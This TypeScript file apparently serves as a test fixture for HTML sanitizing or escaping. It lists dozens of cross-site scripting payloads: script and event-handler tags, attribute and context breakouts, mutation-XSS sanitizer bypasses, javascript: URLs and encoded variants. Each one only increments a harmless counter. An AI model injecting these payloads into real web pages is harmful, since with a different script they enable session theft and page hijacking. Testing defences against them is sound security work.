/**
 * Markup that would run as a script where a text is put into a page unescaped: the ways of browsers to do so, each
 * raising `__xss` of its window. After the families that DOMPurify and html5sec collect, in our own words.
 */
const raise = 'window.__xss=1+(window.__xss|0)'

/** Elements that run by themselves as soon as they stand in a page. */
const elements = [
  `<script>${raise}</script>`,
  `<SCRIPT/x>${raise}</SCRIPT>`,
  `<script>${raise}//`,
  `<scr<script>ipt>${raise}</scr</script>ipt>`,
  `<img src=x onerror=${raise}>`,
  `<img/src=x/onerror=${raise}>`,
  `<img src=x:x onerror\n=\n"${raise}">`,
  `<svg onload=${raise}>`,
  `<svg><script>${raise}</script></svg>`,
  `<svg><animate onbegin=${raise} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${raise}></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${raise}>#x"></svg>`,
  `<body onload=${raise}>`,
  `<input autofocus onfocus=${raise}>`,
  `<select autofocus onfocus=${raise}></select>`,
  `<details open ontoggle=${raise}>x</details>`,
  `<video><source onerror=${raise}></video>`,
  `<audio src=x onerror=${raise}></audio>`,
  `<marquee onstart=${raise}>x</marquee>`,
  `<iframe srcdoc="<script>parent.${raise}</script>"></iframe>`,
  `<iframe src="javascript:parent.${raise}"></iframe>`,
  `<object data="javascript:${raise}"></object>`,
  `<embed src="javascript:${raise}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${raise}">`,
  `<link rel=stylesheet href="data:text/css,*{}" onload=${raise}>`,
  `<style>@import 'x'</style><style onload=${raise}></style>`,
  `<base href="javascript:${raise}//">`,
  `<div style="animation:x" onanimationstart=${raise}><style>@keyframes x{}</style></div>`,
  `<x contenteditable onblur=${raise} autofocus>x`,
]

/** What ends the place that a text stands in, and begins one of its own. */
const endings = [
  `"><img src=x onerror=${raise}>`,
  `'><img src=x onerror=${raise}>`,
  `" autofocus onfocus="${raise}`,
  `' onmouseover='${raise}`,
  `\` onerror=${raise} \``,
  `--><img src=x onerror=${raise}><!--`,
  `]]><img src=x onerror=${raise}>`,
  `</title><img src=x onerror=${raise}>`,
  `</textarea><img src=x onerror=${raise}>`,
  `</style><img src=x onerror=${raise}>`,
  `</script><script>${raise}</script>`,
  `');${raise};//`,
  `";${raise};//`,
  `\${${raise}}`,
  `{{constructor.constructor('${raise}')()}}`,
]

/** Sound at first sight, something else once it was written out and read again. */
const mutants = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${raise}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${raise}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${raise}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${raise}>`,
  `<template><style></template><img src=x onerror=${raise}></style>`,
  `<select><template><style></select><img src=x onerror=${raise}>`,
  `<xmp><p title="</xmp><img src=x onerror=${raise}>">`,
  `<listing>&lt;img src=x onerror=${raise}&gt;</listing>`,
  `<a id=x><a id=x name=firstElementChild><form id=x><input name=attributes>`,
  `<img src=x id=createElement><form name=body><input name=cookie>`,
]

/** Addresses that are programs. */
const addresses = [
  `javascript:${raise}`,
  `JaVaScRiPt:${raise}`,
  ` javascript:${raise}`,
  `java\nscript:${raise}`,
  `java&#10;script:${raise}`,
  `&#106avascript:${raise}`,
  `data:text/html,<script>parent.${raise}</script>`,
  `vbscript:${raise}`,
  `https://a.example/"onmouseover="${raise}`,
]

/** Other writings of the same characters. */
const disguises = [
  `&lt;script&gt;${raise}&lt;/script&gt;`,
  `%3Cscript%3E${raise}%3C/script%3E`,
  `\\u003cscript\\u003e${raise}\\u003c/script\\u003e`,
  `＜script＞${raise}＜/script＞`,
  `+ADw-script+AD4-${raise}+ADw-/script+AD4-`,
  `<\u0001script>${raise}</script>`,
]

export const hostileMarkup: readonly string[] = [
  ...elements,
  ...endings,
  ...mutants,
  ...addresses,
  ...disguises,
]
